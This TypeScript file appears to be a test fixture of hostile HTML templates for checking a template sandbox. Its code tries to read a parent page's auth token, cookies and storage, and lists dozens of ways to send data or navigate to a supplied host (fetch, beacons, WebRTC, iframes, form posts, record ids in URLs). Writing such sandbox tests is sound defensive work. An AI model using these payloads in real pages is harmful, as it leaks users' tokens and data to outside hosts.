/** Reads that a hostile template attempts; each writes its result into the document. */
const reading = `<pre id="found"></pre><script>
  const tries = {
    token: () => parent.localStorage.getItem('auth.token'),
    parent: () => parent.document.body.innerHTML,
    top: () => top.document.title,
    address: () => top.location.href,
    opener: () => String(opener),
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => indexedDB.open('x'),
    caches: () => caches.open('x'),
    cookies: () => document.cookie,
    frames: () => parent.frames[1].document.title,
  };
  (async () => {
    const found = {};
    for (const [name, attempt] of Object.entries(tries))
      found[name] = await Promise.resolve().then(attempt).catch((error) => error.name);
    document.querySelector('#found').textContent = JSON.stringify(found);
  })();
</script>`;

const rtc = (stun: string) =>
  `const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer));`;

const element = (name: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement('${name}'), ${properties}))`;

/** Requests that a hostile template attempts, one per line. */
const sending = (at: string, stun: string): readonly string[] => [
  `fetch('http://${at}/fetch')`,
  `const x = new XMLHttpRequest(); x.open('GET', 'http://${at}/xhr'); x.send()`,
  `new WebSocket('ws://${at}/socket')`,
  `new EventSource('http://${at}/events')`,
  `navigator.sendBeacon('http://${at}/beacon', 'x')`,
  `new Image().src = 'http://${at}/image'`,
  `new FontFace('x', 'url(http://${at}/font)').load()`,
  element('style', `{ textContent: '@import "http://${at}/import"; body { background: url(http://${at}/css) }' }`),
  ...[
    'stylesheet',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'modulepreload',
    'preload',
    'icon',
    'manifest',
  ].map((rel) => element('link', `{ rel: '${rel}', as: 'image', href: 'http://${at}/${rel}' }`)),
  element(
    'script',
    `{ type: 'speculationrules', textContent: '{"prefetch":[{"source":"list","urls":["http://${at}/ahead"]}]}' }`,
  ),
  element('script', `{ src: 'http://${at}/script' }`),
  element('video', `{ src: 'http://${at}/video', autoplay: true }`),
  element('iframe', `{ src: 'http://${at}/iframe' }`),
  element('iframe', `{ srcdoc: "<script>${rtc(stun).replaceAll("'", '`')}<\\/script>" }`),
  `document.body.insertAdjacentHTML('beforeend', "<iframe srcdoc='<script>${rtc(stun).replaceAll("'", '`')}<\\/script>'></iframe>")`,
  element('iframe', `{ src: "javascript:${rtc(stun).replaceAll("'", '`')}" }`),
  `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.RTCPeerConnection()`,
  element('object', `{ data: 'http://${at}/object' }`),
  element('embed', `{ src: 'http://${at}/embed' }`),
  `new Worker(URL.createObjectURL(new Blob(["fetch('http://${at}/worker')"])))`,
  `navigator.serviceWorker.register('http://${at}/service')`,
  rtc(stun),
  `new WebTransport('https://${at}/transport')`,
  `import('http://${at}/module')`,
  `const g = document.createElement('form'); g.action = 'http://${at}/form'; g.method = 'post'; document.body.append(g); g.submit()`,
  `const a = document.createElement('a'); a.href = 'http://${at}/top'; a.target = '_top'; document.body.append(a); a.click()`,
  `const b = document.createElement('a'); b.href = '#x'; b.ping = 'http://${at}/ping'; document.body.append(b); b.click()`,
  `const d = document.createElement('a'); d.href = 'http://${at}/down'; d.download = 'x'; document.body.append(d); d.click()`,
  `open('http://${at}/popup')`,
  `top.location = 'http://${at}/top'`,
  `parent.location.replace('http://${at}/parent')`,
  `navigator.geolocation.getCurrentPosition(() => 0)`,
  `alert('x')`,
];

const hints = (at: string) =>
  `<base href="http://${at}/"><link rel="preconnect" href="http://${at}/"><link rel="prefetch" href="http://${at}/prefetch">
  <meta http-equiv="refresh" content="0;url=http://${at}/refresh"><iframe src="http://${at}/frame"></iframe>
  <img src="http://${at}/image"><table background="http://${at}/table"></table><input type="image" src="http://${at}/input">
  <svg><image href="http://${at}/svg" /><use href="http://${at}/use#x" /></svg><video poster="http://${at}/poster"></video>`;

const attempts = (lines: readonly string[]) =>
  `<p>before</p><script>${lines.map((line) => `try { ${line} } catch {}`).join('\n')}</script><p id="after">after</p>`;

export const attacks = (at: string, stun: string): Readonly<Record<string, string>> => ({
  reading,
  sending: attempts(sending(at, stun)),
  hints: `${hints(at)}<p id="after">after</p>`,
  leaving: attempts([`location = 'http://${at}/leaving?' + record.id`]),
  home: attempts([`location = '/api/v1/status?' + record.id`]),
  refreshing: attempts([
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://${at}/later' }))`,
  ]),
  writing: attempts([
    `document.open(); document.write('<meta http-equiv=refresh content="0;url=http://${at}/written">')`,
  ]),
});
